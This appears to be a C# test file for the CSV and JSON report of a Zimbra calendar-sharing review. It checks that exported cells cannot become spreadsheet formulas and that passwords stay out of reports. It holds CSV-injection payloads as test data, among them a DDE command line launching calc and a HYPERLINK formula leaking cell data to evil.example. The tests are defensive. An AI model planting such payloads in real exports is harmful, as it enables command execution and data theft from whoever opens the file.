using System.Text;
using System.Text.Json;
using Zourit.Zimbra.Sharing.Calendars;
using Zourit.Zimbra.Sharing.Calendars.Reviews;
using Zourit.Zimbra.Sharing.Testing.Model;
using Zourit.Zimbra.Sharing.Tests.Worlds;
using Zourit.Zimbra.Sharing.Values;
using static Zourit.Zimbra.Sharing.Tests.Worlds.Association;

namespace Zourit.Zimbra.Sharing.Tests.Calendars.Reviews;

/// <summary>The findings as JSON and as a table.</summary>
public sealed class ReviewReportTests
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task The_table_is_csv_that_no_spreadsheet_takes_for_formulas()
    {
        string csv = await CsvAsync(Finding("=cmd|' /C calc'!A0@orange.fr", "/a, b", "It \"ended\"."));

        Assert.Equal(
            "code,owner,calendar,folderId,granteeType,grantee,permissions,ends,inheritedFrom,address,sentence,remedy,sentenceFr,"
                + "remedyFr\r\n"
                + "Ended,moncompte@monasso.org,\"/a, b\",257,guest,'=cmd|' /C calc'!A0@orange.fr,rwidx,1970-01-01T00:00:00Z,,"
                + "https://mail.monasso.org/home/moncompte@monasso.org/a.ics,\"It \"\"ended\"\".\",Nothing.,Fini.,Rien.\r\n",
            csv
        );
    }

    [Theory]
    [InlineData("=1+1", ",'=1+1,")]
    [InlineData("+33 6", ",'+33 6,")]
    [InlineData("-2", ",'-2,")]
    [InlineData("@SUM(A1)", ",'@SUM(A1),")]
    [InlineData("\t=1", ",\"'\t'=1\",")]
    [InlineData("\r=1", ",\"'\r'=1\",")]
    [InlineData("\n=1", ",\"'\n'=1\",")]
    [InlineData("Asso;=1", ",\"Asso;'=1\",")]
    [InlineData("a-b;c=d, e@f.fr", ",\"a-b;c=d, e@f.fr\",")]
    [InlineData("＝1", ",'＝1,")]
    [InlineData("a\r\nEnded,x", ",\"a\r\nEnded,x\",")]
    [InlineData("\"", ",\"\"\"\",")]
    [InlineData("élu@orange.fr", ",élu@orange.fr,")]
    public async Task A_hostile_name_stays_in_its_cell(string name, string cell) =>
        Assert.Contains(cell, await CsvAsync(Finding(name, "/a", "It ended.")), StringComparison.Ordinal);

    /// <summary>
    /// Excel splits at the system's list separator, <c>;</c> in France, and does not know then that the table has commas; other programs
    /// split at several.
    /// </summary>
    [Theory]
    [InlineData(",")]
    [InlineData(";")]
    [InlineData("\t")]
    [InlineData(",;\t")]
    public async Task No_cell_is_a_formula_whatever_the_list_separator_of_the_spreadsheet_is(string separators)
    {
        string[] payloads =
        [
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "=1+1",
            "+33",
            "-2",
            "@SUM(A1)",
            "＝1",
            "＋1",
            "－1",
            "＠A",
            "﹦1",
        ];
        string[] ways =
        [
            "{0}",
            "x;{0}",
            "x,{0}",
            "x\t{0}",
            "x\n{0}",
            "x\r{0}",
            "x\r\n{0}",
            "x;;{0}",
            "x; {0}",
            "x;\u00A0{0}",
            "x;\u200B{0}",
            "x;\"{0}\"",
            "x;\"\"{0}",
            "x\",{0}",
            "x\";{0};\"y",
            "\t{0}",
            "\r{0}",
            "\n{0}",
            " {0}",
            "\"{0}",
        ];
        ReviewFinding[] findings =
        [
            .. payloads
                .SelectMany(payload => ways.Select(way => way.Replace("{0}", payload, StringComparison.Ordinal)))
                .Select(text => Everywhere(text)),
        ];

        List<string> cells = SpreadsheetCells.Of(await CsvAsync(findings), separators);

        Assert.True(cells.Count > findings.Length);
        Assert.DoesNotContain(cells, SpreadsheetCells.IsFormula);
    }

    [Fact]
    public async Task The_table_starts_with_the_mark_that_tells_Excel_its_encoding()
    {
        using var output = new MemoryStream();

        await ReviewReport.WriteCsvAsync(AsyncEnumerable.Empty<ReviewFinding>(), output, Cancel);

        Assert.Equal("\uFEFFcode,", Encoding.UTF8.GetString(output.ToArray())[..6]);
        Assert.True(output.CanWrite);
    }

    [Fact]
    public async Task Hostile_names_come_back_from_json_as_they_were()
    {
        const string hostile = "\"</script>\r\n{=1}\\é\u2028";
        using var output = new MemoryStream();

        await ReviewReport.WriteJsonAsync(new[] { Finding(hostile, "/a", "It ended.") }.ToAsyncEnumerable(), output, Cancel);

        using JsonDocument json = JsonDocument.Parse(output.ToArray());
        Assert.Equal(hostile, json.RootElement[0].GetProperty("grantee").GetString());
    }

    [Fact]
    public async Task A_review_without_findings_is_an_empty_array()
    {
        await using AssociationWorld world = await AssociationWorld.StartAsync();
        using var output = new MemoryStream();

        await ReviewReport.WriteJsonAsync(world.Client.Calendars.ReviewAsync(cancellationToken: Cancel), output, Cancel);

        Assert.Equal("[]", Encoding.UTF8.GetString(output.ToArray()));
        Assert.True(output.CanWrite);
    }

    [Fact]
    public async Task The_findings_are_written_as_json()
    {
        await using AssociationWorld world = await AssociationWorld.StartAsync();
        world.Seed("/Événements de l'asso", new AccessGrant("ecrit@orange.fr", "guest", "ri"));
        using var output = new MemoryStream();

        await ReviewReport.WriteJsonAsync(world.Client.Calendars.ReviewAsync(cancellationToken: Cancel), output, Cancel);

        using JsonDocument json = JsonDocument.Parse(output.ToArray());
        JsonElement first = json.RootElement[0];
        Assert.Equal(3, json.RootElement.GetArrayLength());
        Assert.Equal(("OutsiderCanWrite", Owner, "/Événements de l'asso"), (Of(first, "code"), Of(first, "owner"), Of(first, "calendar")));
        Assert.Equal(("guest", "ecrit@orange.fr", "ri"), (Of(first, "granteeType"), Of(first, "grantee"), Of(first, "permissions")));
        Assert.Contains("peut être modifié", Of(first, "sentenceFr"), StringComparison.Ordinal);
        Assert.Null(Of(first, "ends"));
        Assert.Equal("/Événements de l'asso", Of(json.RootElement[1], "inheritedFrom"));
        Assert.Equal(("NotKnowable", (string?)null), (Of(json.RootElement[2], "code"), Of(json.RootElement[2], "calendar")));
    }

    [Fact]
    public async Task No_grant_password_is_in_a_report()
    {
        await using AssociationWorld world = await AssociationWorld.StartAsync();
        await world.Client.Calendars.ShareWithGuestAsync(
            Events,
            "cle@orange.fr",
            new() { GrantPassword = new Secret("s3cret-mot"), Permissions = Permissions.Manager },
            Cancel
        );
        List<ReviewFinding> findings = await world.Client.Calendars.ReviewAsync(cancellationToken: Cancel).ToListAsync(Cancel);
        using var json = new MemoryStream();
        using var csv = new MemoryStream();

        await ReviewReport.WriteJsonAsync(findings.ToAsyncEnumerable(), json, Cancel);
        await ReviewReport.WriteCsvAsync(findings.ToAsyncEnumerable(), csv, Cancel);

        Assert.Equal(ReviewCode.OutsiderCanWrite, Assert.Single(findings).Code);
        Assert.DoesNotContain(
            "s3cret",
            Encoding.UTF8.GetString(json.ToArray()) + Encoding.UTF8.GetString(csv.ToArray()) + findings[0] + findings[0].Grant,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task An_error_of_the_review_is_not_written_over()
    {
        await using AssociationWorld world = await AssociationWorld.StartAsync();
        using var output = new MemoryStream();

        await Assert.ThrowsAsync<ZimbraAuthenticationException>(() =>
            ReviewReport.WriteCsvAsync(world.Client.Calendars.ReviewAsync(new() { WholeServer = true }, Cancel), output, Cancel)
        );
        await Assert.ThrowsAsync<ZimbraAuthenticationException>(() =>
            ReviewReport.WriteJsonAsync(world.Client.Calendars.ReviewAsync(new() { WholeServer = true }, Cancel), output, Cancel)
        );
    }

    private static string? Of(JsonElement finding, string name) => finding.GetProperty(name).GetString();

    private static async Task<string> CsvAsync(params ReviewFinding[] findings)
    {
        using var output = new MemoryStream();
        await ReviewReport.WriteCsvAsync(findings.ToAsyncEnumerable(), output, Cancel);
        return Encoding.UTF8.GetString(output.ToArray())[1..];
    }

    /// <summary>A text in each column that somebody else can choose; paths cannot hold line ends.</summary>
    private static ReviewFinding Everywhere(string text)
    {
        ReviewFinding finding = Finding(text, "/a", text);
        return finding with
        {
            Owner = text,
            Remedy = new(text, text),
            Sentence = new(text, text),
            Grant = finding.Grant! with
            {
                FolderId = text,
                Path = FolderPath.FromServer("/" + text),
                InheritedFrom = FolderPath.FromServer(text),
            },
        };
    }

    private static ReviewFinding Finding(string grantee, string path, string sentence) =>
        new()
        {
            Code = ReviewCode.Ended,
            Owner = Owner,
            Sentence = new(sentence, "Fini."),
            Remedy = new("Nothing.", "Rien."),
            Grant = new CalendarGrant
            {
                Grantee = new Grantee
                {
                    Type = GranteeType.Guest,
                    Id = grantee,
                    Name = grantee,
                },
                Permissions = Permissions.Manager,
                EffectiveExpiry = DateTimeOffset.UnixEpoch,
                Owner = Owner,
                Path = FolderPath.Parse(path),
                FolderId = "257",
                IcsAddress = Sharing.Values.IcsAddress.Parse("https://mail.monasso.org/home/moncompte@monasso.org/a.ics"),
            },
        };
}
